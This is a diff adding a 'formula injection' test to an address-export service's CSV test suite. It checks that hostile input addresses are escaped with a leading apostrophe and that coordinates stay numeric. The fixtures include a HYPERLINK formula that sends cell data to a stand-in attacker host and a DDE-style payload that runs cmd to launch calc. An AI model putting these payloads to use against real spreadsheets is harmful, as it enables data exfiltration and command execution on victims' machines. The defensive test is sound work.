@@ -329,6 +329,30 @@ describe('an export from submit to CSV', () => {
   });
 });
 
+describe('formula injection', () => {
+  it("neutralises an address list's hostile input text in the CSV; coordinates stay numeric", async () => {
+    const key = await exportKey();
+    const [known] = await db.query<{ formatted_address: string; gnaf_pid: string }>(
+      `SELECT formatted_address, gnaf_pid FROM address.address_detail WHERE dataset = 'sandbox' AND state = 'VIC'
+         AND geom IS NOT NULL AND flat_number IS NULL ORDER BY gnaf_pid LIMIT 1`,
+    );
+    const hostile = ['=HYPERLINK("http://evil.example/?d="&B2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1 Main St'];
+    const addresses = [...hostile, known!.formatted_address];
+    const res = await submit(key, { selection: { type: 'addresses', addresses }, layers: ['parcel'] });
+    expect(res.status, res.text).toBe(202);
+    await drain();
+    const { header, rows } = await csvOf(key, res.body.jobId as string);
+    expect(header).toEqual(res.body.header);
+    expect(rows.map((r) => r.input_address)).toEqual([...hostile.map((h) => `'${h}`), known!.formatted_address]);
+    expect(rows[3]).toMatchObject({ gnaf_pid: known!.gnaf_pid, parcel_status: 'ok' });
+    expect(rows[3]!.latitude).toMatch(/^-\d+\.\d+$/);
+    // no cell of the file starts a formula, unless it is a plain number
+    for (const row of rows)
+      for (const cell of Object.values(row))
+        expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell), cell).toBe(false);
+  });
+});
+
 describe('ownership, metering and events', () => {
   it("answers 404 for another account's export on every route", async () => {
     const owner = await exportKey();
